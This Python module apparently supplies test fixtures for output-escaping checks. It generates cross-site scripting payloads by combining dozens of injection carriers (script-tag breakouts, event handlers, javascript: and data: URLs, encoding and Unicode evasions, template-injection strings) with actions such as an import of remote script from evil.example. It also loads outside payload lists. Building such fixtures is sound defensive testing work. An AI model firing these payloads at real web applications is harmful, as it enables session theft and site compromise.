"""Strings that run as code wherever they are printed without care: ours, or a collection beside the checkout."""

from __future__ import annotations

import itertools
import json
from pathlib import Path

COLLECTION = Path(__file__).parents[3] / "shared" / "corpora" / "hostile"

# Each of these sets `window.__pwned` or opens a dialog if a browser ever runs it.
_DEEDS = ("alert(1)", "window.__pwned=1", "import('//evil.example/x.js')", "top.name=prompt`1`")
_CARRIERS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "<!--><script>{}</script-->",
    "<![CDATA[><script>{}</script>]]>",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>press</a>",
    "<a href='&#106;ava&#10;script:{}'>press</a>",
    "<a href=' \x01javascript:{}'>press</a>",
    "<a href='data:text/html,<script>{}</script>'>press</a>",
    "<form action='javascript:{}'><button>send</button></form>",
    "<button formaction='javascript:{}'>send</button>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='//evil.example/'><script>{}</script>",
    "<link rel=stylesheet href='//evil.example/x.css'><b onclick={}>",
    "<style>@import '//evil.example/x.css'</style><i onmouseover={}>",
    "<p style='background:url(//evil.example/x)' onclick={}>",
    '" onfocus="{}" autofocus="',
    "' onfocus='{}' autofocus='",
    "` onfocus=`{}` autofocus=`",
    '";{};//',
    "';{};//",
    "${{{}}}",
    "{{{{{}}}}}",
    "{{% include '{}' %}}",
    "\u202e<script>{}</script>",
    "<scr\u200bipt>{}</script>",
    "<scr\x00ipt>{}</script>",
    "＜script＞{}＜/script＞",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\u2028{}\u2029",
)


def own() -> list[str]:
    return [carrier.format(deed) for carrier, deed in itertools.product(_CARRIERS, _DEEDS)]


def collected() -> list[str]:
    """Those that others collected; none where the collection is not beside the checkout."""
    if not COLLECTION.is_dir():
        return []
    lines = (COLLECTION / "payloads.jsonl").read_text(encoding="utf-8").strip().split("\n")
    return [json.loads(line)["payload"] for line in lines]


def naughty() -> list[str]:
    """Strings of every kind that have broken somebody's program."""
    path = COLLECTION / "blns.txt"
    if not path.is_file():
        return []
    return [line for line in path.read_text(encoding="utf-8").split("\n") if line and not line.startswith("#")]
